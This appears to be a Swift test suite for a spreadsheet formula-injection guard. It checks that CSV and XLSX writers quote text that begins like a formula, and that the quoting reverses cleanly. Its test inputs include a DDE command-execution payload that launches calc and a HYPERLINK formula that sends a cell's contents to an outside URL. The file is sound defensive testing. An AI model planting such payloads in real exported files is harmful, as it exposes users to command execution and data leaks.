import Foundation
import TestSupport
import Testing

@testable import Tabular

@Suite struct `The guard against formulas` {
  @Test(arguments: [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "-", "'=1", "''+x", "-1e",
    "-.5",
    "+86 138", "-1 ", "-5%", "--1", "-1.2.3",
  ])
  func `stands before what a spreadsheet may take for a formula`(text: String) {
    #expect(FormulaGuard.guarded(text) == "'" + text)
    #expect(FormulaGuard.unguarded("'" + text) == text)
  }

  @Test(arguments: [
    "", "x", "x=1", "1", "-1", "+1", "-12.50", "-3e-7", "+8613800138000", "'", "'x", "''", "张三",
    "'1", "a-b",
  ])
  func `does not stand before numbers and other texts`(text: String) {
    #expect(FormulaGuard.guarded(text) == text)
    #expect(FormulaGuard.unguarded(text) == text)
  }

  @Test func `gives back every text as it was`() {
    var generator = SeededGenerator(seed: 14)
    let alphabet = Array("''==+-@\t\r\n＝＋－＠\"ab, 1.9e张")
    for _ in 0..<20_000 {
      let text = String(
        (0..<Int.random(in: 0...6, using: &generator)).map { _ in
          alphabet[Int.random(in: 0..<alphabet.count, using: &generator)]
        })
      let written = FormulaGuard.guarded(text)
      #expect(FormulaGuard.unguarded(written) == text, "\(text.debugDescription)")
      // What is written begins with nothing that runs, unless it is a number.
      if let first = written.unicodeScalars.first, "=+-@\t\r\n＝＋－＠".unicodeScalars.contains(first) {
        #expect(Double(written) != nil, "\(written.debugDescription)")
      }
    }
  }

  @Test func `is written into text and stays a string of a workbook`() throws {
    var writer = CSVWriter(isGuarded: true)
    writer.write(["=1+1", "-5", "a\n=b", "\t=x,y"])
    #expect(String(decoding: writer.bytes, as: UTF8.self) == "'=1+1,-5,\"a\n=b\",\"'\t=x,y\"\n")

    let folder = try TestSupport.TemporaryFolder()
    let book = try XLSXWriter(path: folder.path("a.xlsx"))
    try book.write([.text("=1+1"), .text("@x"), .text("-2+3")], geometry: nil)
    try book.finish()
    let archive = try ZipArchive(FileBytes(path: folder.path("a.xlsx")))
    let entry = try #require(archive.entry("xl/worksheets/sheet1.xml"))
    let sheet = String(decoding: try archive.content(of: entry), as: UTF8.self)
    #expect(sheet.contains("=1+1") && !sheet.contains("<f>"), "\(sheet)")
  }
}
